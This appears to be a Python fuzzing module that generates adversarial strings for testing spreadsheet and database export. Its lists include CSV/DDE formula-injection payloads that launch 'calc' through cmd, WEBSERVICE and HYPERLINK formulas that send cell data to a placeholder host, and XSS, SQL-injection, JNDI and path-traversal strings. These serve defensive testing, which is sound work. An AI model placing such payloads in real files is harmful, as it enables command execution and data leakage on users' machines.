"""Endless texts that spoil spreadsheets, the same for the same seed: what people paste, and what nobody should.

Each family is a way in which a text can stop being a text in a cell. A drawn text is of one family, or of several put together.
"""

import unicodedata
from collections.abc import Callable, Iterator, Sequence
from itertools import chain
from random import Random
from typing import TypeAlias

Family: TypeAlias = Callable[[Random], str]

#: Two halves of an emoji, apart and the wrong way round; characters that are none.
HALVES = ("\ud83d", "\ude00", "\ude00\ud83d", "\ud83d\ud83d\ude00")
NO_CHARACTERS = ("\ufffe", "\uffff", "\ufdd0", "\U0001fffe", "\U0010ffff")
STARTS: Sequence[str] = (
    *"=+-@",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "\t=",
    "\n=",
    "\r=",
    " =",
    "\u00a0=",
    "'=",
    '"=',
    "''=",
    "{=",
    "\ufeff=",
    "=-",
    "%0A=",
)
FORMULAS = (
    "1+1",
    "SUM(A1:A9)",
    "SOMME(A1;A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://exemple.invalid/?x="&A1;"ici")',
    'WEBSERVICE("http://exemple.invalid/"&A1)',
    'IMPORTXML("http://exemple.invalid";"//a")',
    'DDE("cmd";"/C calc";"!A0")',
    "[autre.xlsx]Feuil1!A1",
    "Actions[Action]",
    'INDIRECT("Lisez-moi!A1")',
    "A1",
    "",
)
ERRORS = (
    "#N/A",
    "#REF!",
    "#DIV/0!",
    "#NAME?",
    "#NOM?",
    "#VALUE!",
    "#VALEUR!",
    "#NUM!",
    "#NULL!",
    "#GETTING_DATA",
    "#SPILL!",
    "#",
    "TRUE",
    "VRAI",
    "FAUX",
)
LOOKALIKES = (
    *(
        "01",
        "2A",
        "00012",
        "974",
        "+33 1 23 45 67 89",
        "12345678901234567890",
        "0x1F",
        "1e5",
        "1E400",
        "-0",
        "12,5",
        "1.5",
        ".5",
    ),
    *(
        "1/2",
        "1-2",
        "15/10/2024",
        "2024-10-15",
        "mars-24",
        "10:30",
        "10 %",
        "12 500 \u20ac",
        "12\u202f500",
        "(12)",
        "NaN",
        "inf",
        "1_000",
    ),
    *("\u00bd", "\u0661\u0662", "\uff11\uff12", "\u2460", "\u216b", "\u00b2", "\u4e09", "JAN1", "SEPT9", "1D2"),
)
ESCAPES = (
    "_x000D_",
    "_x005F_",
    "_x005F_x000D_",
    "_x000d_",
    "__x0041_",
    "_X000D_",
    "_xD_",
    "_x0000_",
    "_xD83D_",
    "_xFFFF_",
    "_x0000D_",
    "_x00",
    "x0041_",
)
MARKUP = (
    *(
        "]]>",
        "<c>",
        "</t></is></c>",
        '</t></is></c><c r="B2" t="str"><f>1+1</f><v>2</v></c>',
        "</row></sheetData>",
        "<![CDATA[",
    ),
    *(
        "<!--",
        "-->",
        "<?xml version='1.0'?>",
        '<!DOCTYPE a [<!ENTITY b "c">]>',
        "&amp;",
        "&#0;",
        "&#x1F;",
        "&lt;f&gt;",
        "&b;",
        "&",
        "<",
        ">",
    ),
    *(
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<b>gras</b>",
        "javascript:alert(1)",
        "{{7*7}}",
        "{% raw %}",
        "%s%n",
        "${jndi:x}",
    ),
    *(
        "' OR 1=1 --",
        "\\",
        "\\u0000",
        '"',
        "'",
        "`",
        "..\\..\\etc",
        "\\\\serveur\\partage",
        "http://exemple.invalid",
        "mailto:a@exemple.invalid",
    ),
)
BLANKS = (
    " ",
    "  ",
    "\t",
    "\n",
    "\r",
    "\r\n",
    "\n\r",
    "\r\r\n",
    "\x0b",
    "\x0c",
    "\x85",
    "\u2028",
    "\u2029",
    "\u00a0",
    "\u202f",
    "\u2003",
    "\u3000",
    "\u200b",
    "\ufeff",
)
MARKS = (
    *(
        "\u202eegap",
        "\u202a",
        "\u202c",
        "\u2066",
        "\u2069",
        "\u200e",
        "\u200f",
        "\u061c",
        "\u0645\u0631\u062d\u0628\u0627",
        "\u05e9\u05dc\u05d5\u05dd",
    ),
    *(
        "e\u0301",
        "a" + "\u0300\u0315\u035c" * 12,
        "\u0301",
        "\u1100\u1161\u11a8",
        "\u115f",
        "\u3164",
        "\u0e01\u0e33",
        "\u0f0b",
        "\ufb01",
        "\u1e9e",
        "\u0130",
    ),
    *(
        "\U0001f600",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "\U0001f1eb\U0001f1f7",
        "\U0001f44d\U0001f3fd",
        "\u2764\ufe0f",
        "1\ufe0f\u20e3",
    ),
    *("\U000e0041", "\ue000", "\U000f0000", "\u0378", "\u00ad", "\u034f", "\ufffd", "\U0001d400", "\u2060", "\u180e"),
)
WORDS = (
    "accueil",
    "épicerie",
    "garde d\u2019enfants",
    "famille monoparentale",
    "12 000 €",
    "l\u2019Orne",
    "à",
    "œuvre",
    "QPV",
    "« ici »",
)
#: Around Excel's 32,767, and well beyond.
LENGTHS = (32_766, 32_767, 32_768, 32_769, 40_000, 65_536, 100_000)
LONG_ONE_IN = 500


def control(random: Random) -> str:
    """Draw a control character, of C0 or C1, NUL included."""
    return chr(random.choice([*range(0x20), *range(0x7F, 0xA0)]))


def any_character(random: Random) -> str:
    """Draw a character of any plane, assigned or not, half or whole."""
    return chr(
        random.choice(
            (random.randrange(0x100), random.randrange(0x3000), random.randrange(0x10000), random.randrange(0x110000))
        )
    )


def formula(random: Random) -> str:
    return random.choice(STARTS) + random.choice(FORMULAS)


def prose(random: Random) -> str:
    return " ".join(random.choices(WORDS, k=random.randint(1, 12)))


def controlled(random: Random) -> str:
    """Draw prose with control characters at its ends and inside."""
    return control(random) + prose(random) + control(random) + prose(random) + control(random)


def chance(random: Random) -> str:
    return "".join(any_character(random) for _ in range(random.randint(1, 30)))


def word(random: Random) -> str:
    """Draw a word that no column is wide enough for."""
    return random.choice("aé_W\u0600") * random.randint(50, 400)


def lines(random: Random) -> str:
    return random.choice(BLANKS).join(prose(random) for _ in range(random.randint(2, 12)))


def long(random: Random) -> str:
    """Draw a text near the limit of a cell or beyond, which ends as badly as it can."""
    length = random.choice(LENGTHS)
    unit = random.choice(("a", "é", "\U0001f600", "à la ligne\n", "_x000D_", "<c>", "\r\n", "e\u0301", "= "))
    end = random.choice((*ESCAPES, *HALVES, "\U0001f600", "\r\n", " ", "", "\x00"))
    text = (unit * (length // len(unit) + 1))[: length - len(end)] + end
    return text[random.randint(0, 3) :] if random.random() < 0.5 else text


def one_of(texts: Sequence[str]) -> Family:
    return lambda random: str(random.choice(texts))


FAMILIES: Sequence[Family] = (
    *(formula, formula, controlled, control, chance, word, lines, prose),
    *map(one_of, (ERRORS, LOOKALIKES, ESCAPES, MARKUP, BLANKS, MARKS, HALVES, NO_CHARACTERS)),
)


def drawn(random: Random) -> Iterator[str]:
    """Draw texts for ever."""
    while True:
        if random.randrange(LONG_ONE_IN) == 0:
            yield long(random)
        parts = 1 if random.random() < 0.5 else random.randint(2, 4)
        yield "".join(random.choice(FAMILIES)(random) for _ in range(parts))


def each_once() -> Iterator[str]:
    """Give what must be tried whatever is drawn: each start, each control character, each length, each word of each list."""
    yield from (start + formula for start in STARTS for formula in FORMULAS[:2])
    yield from chain(ERRORS, LOOKALIKES, ESCAPES, MARKUP, BLANKS, MARKS, HALVES, NO_CHARACTERS)
    yield from (f"{end}mot{end}" for end in BLANKS)
    yield from (chr(code) for code in (*range(0x20), *range(0x7F, 0xA0)))
    yield from ("é" * length for length in LENGTHS)
    yield from ("\U0001f600" * (length // 2) + "x" * (length % 2) for length in LENGTHS)
    # The cut falls inside an emoji, and inside what Excel would read as an escape.
    yield from ("x" * place + "\U0001f600" * 20_000 for place in (0, 1))
    yield from ("x" * (32_767 - place) + "_x000D_" * 10 for place in range(8))


def texts(seed: int, place: int, count: int) -> list[str]:
    """Give the texts of one round: the first begins with those that must be tried."""
    random = Random(f"{seed}:{place}")
    must = list(each_once()) if place == 0 else []
    found = chain(must, drawn(random))
    return [next(found) for _ in range(max(count, len(must)))]


def storable(text: str) -> bool:
    """Say whether a database takes a text: neither half characters (UTF-8), nor NUL (PostgreSQL)."""
    return "\x00" not in text and not any(unicodedata.category(character) == "Cs" for character in set(text))
